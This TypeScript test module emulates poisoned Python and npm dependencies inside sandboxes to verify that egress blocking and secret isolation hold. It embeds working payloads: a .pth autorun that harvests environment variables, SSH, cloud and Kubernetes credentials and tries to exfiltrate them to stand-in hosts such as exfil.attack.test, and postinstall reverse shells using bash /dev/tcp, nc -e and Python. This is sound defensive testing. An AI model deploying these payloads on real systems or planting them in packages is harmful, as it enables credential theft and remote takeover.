/**
 * Seed-style supply-chain emulation: what a poisoned dependency does once installed in a sandbox.
 * A Python package whose `.pth` runs at every interpreter start, harvests the environment and
 * readable files and tries to send them out (HTTP through the proxy, CONNECT, direct TCP, DNS);
 * an npm-postinstall-style script that tries reverse shells. The runner's canaries (a secret in
 * the daemon's environment and in a root-only host file) must not show inside; every exfiltration
 * must be refused, reach no stand-in, and show in the sandbox's egress log as denied.
 */
import { existsSync, readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { newMarker } from './net-probes.js';
import type { Attack, AttackContext, AttackOutcome } from './types.js';

/** "pip install": writes the package and its .pth into the user site of PYTHONUSERBASE. */
const INSTALL_PY = String.raw`
import os, site, sys
d = site.getusersitepackages()
os.makedirs(d, exist_ok=True)
open(os.path.join(d, "zz_telemetry_helper.pth"), "w").write("import _telemetry_helper\n")
open(os.path.join(d, "_telemetry_helper.py"), "w").write(sys.stdin.read())
print("installed", d)
`;

/** The payload the .pth imports: harvest, then try every way out. Prints what it got (the verdict reads it). */
const PAYLOAD_PY = String.raw`
import os, json, socket, glob
marker = os.environ.get("ATTACK_MARKER", "nomarker")
host_file = os.environ.get("ATTACK_HOST_FILE", "/nonexistent")
loot = {"env": dict(os.environ), "files": {}}
paths = ["/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", host_file,
         "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519", "/root/.docker/config.json", "/root/.aws/credentials",
         "/root/.netrc", "/root/.gitconfig", "/root/.npmrc", "/root/.pypirc", "/var/run/secrets/kubernetes.io/serviceaccount/token"]
paths += glob.glob("/proc/[0-9]*/environ")[:64]
for p in paths:
    try:
        loot["files"][p] = open(p, "rb").read(4096).decode("latin1")
    except Exception as e:
        loot["files"][p] = "ERR " + type(e).__name__
blob = json.dumps(loot)
tries = []
def attempt(name, fn):
    try:
        tries.append([name, "OK " + str(fn())[:120]])
    except Exception as e:
        tries.append([name, "ERR %s: %s" % (type(e).__name__, e)])
def proxy_post(host, path):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=6)
    body = (marker + blob)[:4000].encode("latin1", "replace")
    s.sendall(("POST http://%s%s HTTP/1.1\r\nHost: %s\r\nX-Marker: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % (host, path, host, marker, len(body))).encode() + body)
    r = s.recv(200).decode("latin1").split("\r\n")[0]
    s.close()
    if " 200 " in r:
        return r
    raise RuntimeError(r or "no answer")
def proxy_connect(target):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=6)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    r = s.recv(200).decode("latin1").split("\r\n")[0]
    if " 200 " in r:
        s.sendall(marker.encode() + blob[:2000].encode("latin1", "replace"))
        s.close()
        return r
    s.close()
    raise RuntimeError(r or "no answer")
def direct(host, port):
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(marker.encode() + blob[:2000].encode("latin1", "replace"))
    s.close()
    return "sent"
def dns(name):
    return socket.getaddrinfo(name, 80)[0][4][0]
def udp(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(marker.encode(), (host, 53))
    return "sent"
attempt("POST exfil.attack.test", lambda: proxy_post("exfil.attack.test", "/upload"))
attempt("POST metadata", lambda: proxy_post("169.254.169.254", "/latest/user-data"))
attempt("CONNECT c2.attack.test:443", lambda: proxy_connect("c2.attack.test:443"))
attempt("CONNECT [::ffff:a63:2]:80", lambda: proxy_connect("[::ffff:a63:2]:80"))
attempt("direct 10.99.0.2:80", lambda: direct("10.99.0.2", 80))
attempt("direct 10.0.0.1:22", lambda: direct("10.0.0.1", 22))
attempt("dns", lambda: dns(marker + ".exfil.attack.test"))
attempt("udp 10.0.0.1:53", lambda: udp("10.0.0.1"))
print("HARVEST " + json.dumps({"tries": tries, "loot": blob}))
`;

interface Harvest {
  tries: [string, string][];
  loot: string;
}

/** In open mode exfil.attack.test and 10.99.0.2 are reachable by design (their address is opened for the suite): only closed and denied destinations count there. */
const OPEN_BY_DESIGN = ['POST exfil.attack.test', 'CONNECT [::ffff:a63:2]:80'];

async function pthAttack(ctx: AttackContext, sandboxId: string, expectLog: boolean, openMode = false): Promise<AttackOutcome> {
  const canary = ctx.canary;
  const marker = newMarker();
  const env = { PYTHONUSERBASE: `/workspace/.${marker}`, ATTACK_MARKER: marker, ATTACK_HOST_FILE: canary?.hostFile ?? '/nonexistent' };
  const inst = await ctx.exec(sandboxId, ['python3', '-c', INSTALL_PY], { stdin: PAYLOAD_PY, env });
  if (inst.exitCode !== 0) return { blocked: false, detail: `setup: the package could not be installed: ${inst.stderr.slice(-200)}` };
  // Any later interpreter start runs the .pth: the "application" does nothing itself.
  const run = await ctx.exec(sandboxId, ['python3', '-c', 'print("app ran")'], { env, timeoutMs: 90_000 });
  await ctx.exec(sandboxId, ['rm', '-rf', `/workspace/.${marker}`]);
  const line = run.stdout.split('\n').find((l) => l.startsWith('HARVEST '));
  if (!line || !run.stdout.includes('app ran')) return { blocked: false, detail: `setup: the .pth did not run (exit ${run.exitCode}): ${(run.stderr || run.stdout).slice(-200)}` };
  const h = JSON.parse(line.slice(8)) as Harvest;
  const problems: string[] = [];
  if (canary && h.loot.includes(canary.value)) problems.push(`the harvest holds the canary (from the daemon's environment or ${canary.hostFile})`);
  const through = h.tries.filter(([n, r]) => r.startsWith('OK') && !(openMode && OPEN_BY_DESIGN.includes(n)));
  if (through.length > 0) problems.push(`got out: ${through.map(([n, r]) => `${n} ${r}`).join('; ')}`);
  const reached = (ctx.standIns.received?.(marker) ?? []).filter((l) => !(openMode && l === 'denied'));
  if (reached.length > 0) problems.push(`stand-in(s) ${reached.join(', ')} received the harvest`);
  let logged = '';
  if (expectLog) {
    const log = await ctx.client.egressLog(sandboxId, { denied: true, limit: 500 });
    const denied = log.log.filter((e) => e.decision === 'denied').map((e) => e.host);
    const missing = ['exfil.attack.test', 'c2.attack.test'].filter((n) => !denied.includes(n));
    if (missing.length > 0) problems.push(`the egress log does not show ${missing.join(', ')} as denied`);
    logged = `; egress log: ${denied.length} denied`;
  }
  return problems.length === 0
    ? { blocked: true, detail: `harvested env and files without the canary; ${h.tries.length} ways out all failed (${h.tries.slice(0, 3).map(([n, r]) => `${n}: ${r.slice(0, 50)}`).join('; ')})${logged}` }
    : { blocked: false, detail: problems.join('; ') };
}

/** An npm-postinstall-style script: reverse shells by bash /dev/tcp, python, busybox nc, and through the proxy. */
const POSTINSTALL_SH = String.raw`
M="$ATTACK_MARKER"
echo "postinstall: fetching prebuilt binary..."
for t in 10.0.0.1/22 10.99.0.2/80 169.254.169.254/80; do
  if command -v bash >/dev/null; then bash -c "exec 3<>/dev/tcp/$t && echo $M >&3 && echo SHELL-UP $t" 2>&1 | tail -1; fi
done
command -v nc >/dev/null && (echo "$M" | nc -w 2 10.0.0.1 22 -e /bin/sh 2>&1 && echo SHELL-UP nc) | tail -1
command -v python3 >/dev/null && python3 - <<PY 2>&1 | tail -1
import socket, subprocess, os
for host, port in (("10.0.0.1", 22), ("10.99.0.2", 80), ("127.0.0.1", 3128)):
    try:
        s = socket.create_connection((host, port), timeout=3)
        if port == 3128:
            s.sendall(b"CONNECT c2.attack.test:4444 HTTP/1.1\r\nHost: c2.attack.test:4444\r\n\r\n")
            r = s.recv(100)
            if b" 200 " not in r:
                print("proxy refused", r.split(b"\r\n")[0].decode("latin1"))
                continue
        s.sendall(b"$M")
        print("SHELL-UP", host, port)
        p = subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
        p.wait(timeout=2)
    except Exception as e:
        print("failed", host, port, type(e).__name__)
PY
echo "postinstall: done"
`;

async function postinstallAttack(ctx: AttackContext, sandboxId: string): Promise<AttackOutcome> {
  const marker = newMarker();
  const r = await ctx.exec(sandboxId, ['sh', '-c', POSTINSTALL_SH], { env: { ATTACK_MARKER: marker }, timeoutMs: 90_000 });
  if (!r.stdout.includes('postinstall: done')) return { blocked: false, detail: `setup: the script did not finish (exit ${r.exitCode}): ${(r.stderr || r.stdout).slice(-200)}` };
  const reached = ctx.standIns.received?.(marker) ?? [];
  const up = r.stdout.split('\n').filter((l) => l.includes('SHELL-UP'));
  if (up.length > 0 || reached.length > 0) return { blocked: false, detail: `reverse shell: ${up.join('; ')}${reached.length ? ` (stand-ins ${reached.join(', ')} got the marker)` : ''}` };
  return { blocked: true, detail: `no reverse shell: ${r.stdout.replace(/\s+/g, ' ').slice(0, 160)}` };
}

/** Host secrets worth stealing that exist on this host (their contents must not show inside a sandbox). */
function hostSecrets(ctx: AttackContext): string[] {
  const out: string[] = [];
  if (ctx.canary) out.push(ctx.canary.value);
  const shadow = '/etc/shadow';
  try {
    for (const l of readFileSync(shadow, 'utf8').split('\n')) {
      const hash = l.split(':')[1] ?? '';
      if (hash.startsWith('$') && hash.length > 20) out.push(hash);
    }
  } catch {
    // not readable: nothing to compare
  }
  for (const p of [join(homedir(), '.docker', 'config.json'), join(homedir(), '.ssh', 'id_rsa'), join(homedir(), '.ssh', 'id_ed25519')]) {
    if (!existsSync(p)) continue;
    try {
      const lines = readFileSync(p, 'utf8').split('\n').filter((l) => l.length >= 24 && !/^-----/.test(l) && !/^\s*[{}]/.test(l));
      out.push(...lines.slice(0, 2).map((l) => l.trim()));
    } catch {
      // unreadable
    }
  }
  return out;
}

export const supplyChainAttacks: Attack[] = [
  {
    id: 'supply-chain.pth-harvest-allowlist',
    category: 'supply-chain',
    title: 'a Python package whose .pth harvests env and files and sends them out, in an allowlist sandbox (refused, logged as denied)',
    needs: ['python3', 'isolatedNetwork'],
    async run(ctx) {
      const id = await ctx.scratch({ egress: { mode: 'allowlist', allow: ['allowed.attack.test:80'] } });
      return pthAttack(ctx, id, true);
    },
  },
  {
    id: 'supply-chain.pth-harvest-none',
    category: 'supply-chain',
    title: 'the same poisoned .pth in an egress-none sandbox: nothing to send through, nothing to harvest',
    needs: ['python3', 'isolatedNetwork'],
    // A scratch sandbox of its own: the shared one is busy with other attacks' probes.
    run: async (ctx) => pthAttack(ctx, await ctx.scratch({ egress: { mode: 'none' } }), false),
  },
  {
    id: 'supply-chain.pth-harvest-open',
    category: 'supply-chain',
    title: 'the same poisoned .pth in an egress-open sandbox: closed and denied destinations still refused',
    needs: ['python3', 'isolatedNetwork'],
    async run(ctx) {
      return pthAttack(ctx, await ctx.scratch({ egress: { mode: 'open' } }), false, true);
    },
  },
  {
    id: 'supply-chain.postinstall-reverse-shell',
    category: 'supply-chain',
    title: 'an npm-postinstall-style script trying reverse shells (bash /dev/tcp, nc -e, python, CONNECT to a denied C2) from allowlist and egress-none sandboxes',
    needs: ['python3', 'isolatedNetwork'],
    async run(ctx) {
      const a = await postinstallAttack(ctx, ctx.sandboxes.egressAllow);
      if (!a.blocked) return { blocked: false, detail: `allowlist: ${a.detail}` };
      const b = await postinstallAttack(ctx, ctx.sandboxes.debian);
      if (!b.blocked) return { blocked: false, detail: `egress none: ${b.detail}` };
      const c = await postinstallAttack(ctx, ctx.sandboxes.egressOpen);
      if (!c.blocked) return { blocked: false, detail: `egress open: ${c.detail}` };
      return { blocked: true, detail: `allowlist, none and open: ${a.detail.slice(0, 120)}` };
    },
  },
  {
    id: 'supply-chain.postinstall-busybox',
    category: 'supply-chain',
    title: 'a postinstall reverse shell with busybox nc and wget from a busybox sandbox',
    needs: ['isolatedNetwork'],
    async run(ctx) {
      const marker = newMarker();
      const r = await ctx.exec(ctx.sandboxes.busybox, ['sh', '-c', `echo ${marker} | nc -w 2 10.0.0.1 22 -e /bin/sh 2>&1 && echo SHELL-UP; echo ${marker} | nc -w 2 169.254.169.254 80 2>&1 && echo SHELL-UP; echo done`]);
      const reached = ctx.standIns.received?.(marker) ?? [];
      return /SHELL-UP/.test(r.stdout) || reached.length > 0
        ? { blocked: false, detail: `reverse shell connected: ${r.stdout.slice(0, 160)}` }
        : { blocked: true, detail: r.stdout.replace(/\s+/g, ' ').slice(0, 160) };
    },
  },
  {
    id: 'supply-chain.daemon-env-canary',
    category: 'supply-chain',
    title: "the daemon's environment (a canary the runner put there) is not visible to any process in a sandbox",
    needs: [],
    async run(ctx) {
      const canary = ctx.canary;
      if (!canary) return { blocked: false, detail: 'setup: the runner gave no canary' };
      const cmd = ['sh', '-c', 'env; cat /proc/1/environ /proc/self/environ 2>/dev/null | tr "\\0" "\\n"; for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < $f; done 2>/dev/null; echo end'];
      const seen: string[] = [];
      for (const [name, id] of [['busybox', ctx.sandboxes.busybox], ['debian', ctx.sandboxes.debian], ['egress open', ctx.sandboxes.egressOpen]] as const) {
        const r = await ctx.exec(id, cmd);
        if (!r.stdout.includes('end')) return { blocked: false, detail: `setup: the probe did not run in ${name}` };
        if (r.stdout.includes(canary.value) || r.stdout.includes(canary.envName)) seen.push(name);
      }
      return seen.length === 0 ? { blocked: true, detail: `${canary.envName} shows in no sandbox process (busybox, debian, egress open)` } : { blocked: false, detail: `the daemon's ${canary.envName} is visible in ${seen.join(', ')}` };
    },
  },
  {
    id: 'supply-chain.host-secrets',
    category: 'supply-chain',
    title: 'host secrets (a root-only canary file, password hashes, docker and ssh credentials) are not readable from a sandbox',
    needs: [],
    async run(ctx) {
      const secrets = hostSecrets(ctx);
      const hostFile = ctx.canary?.hostFile ?? '/nonexistent';
      const script = `cat ${hostFile} /etc/shadow /root/.docker/config.json /root/.ssh/id_rsa /root/.ssh/id_ed25519 /proc/1/root${hostFile} 2>&1; ls -la ${hostFile.replace(/\/[^/]*$/, '')} 2>&1; find / -xdev -name host-secret.txt 2>/dev/null | head -3; echo end`;
      const leaks: string[] = [];
      for (const [name, id] of [['busybox', ctx.sandboxes.busybox], ['debian', ctx.sandboxes.debian]] as const) {
        const r = await ctx.exec(id, ['sh', '-c', script]);
        if (!r.stdout.includes('end')) return { blocked: false, detail: `setup: the probe did not run in ${name}` };
        const found = secrets.filter((s) => r.stdout.includes(s));
        if (found.length > 0) leaks.push(`${name}: ${found.length} host secret(s)`);
        if (/host-secret\.txt/.test(r.stdout.split('\n').filter((l) => !l.includes('No such file') && !l.includes('cat:')).join('\n'))) leaks.push(`${name}: the host canary file is visible`);
      }
      return leaks.length === 0 ? { blocked: true, detail: `${secrets.length} host secret(s) compared: none readable from busybox or debian` } : { blocked: false, detail: leaks.join('; ') };
    },
  },
];
